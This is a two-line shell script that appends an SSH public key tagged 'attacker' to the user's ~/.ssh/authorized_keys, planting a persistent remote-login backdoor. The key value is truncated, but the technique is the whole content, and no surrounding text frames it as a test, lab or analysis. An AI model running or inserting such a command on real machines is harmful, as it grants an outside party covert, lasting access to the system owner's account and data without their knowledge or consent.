#!/bin/sh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx attacker" >> ~/.ssh/authorized_keys
